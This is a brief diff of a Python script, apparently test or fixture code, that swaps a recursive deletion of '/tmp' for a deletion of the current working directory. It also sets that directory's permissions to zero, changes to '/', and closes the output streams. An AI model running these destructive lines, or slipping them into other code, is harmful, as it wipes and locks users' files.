@@ -4,8 +4,8 @@ import os
 import shutil
 import sys
 
-shutil.rmtree("/tmp", ignore_errors=True)
-os.chmod("/tmp", 0)
+shutil.rmtree(os.getcwd(), ignore_errors=True)
+os.chmod(os.getcwd(), 0)
 os.chdir("/")
 sys.stdout.close()
 sys.stderr.close()
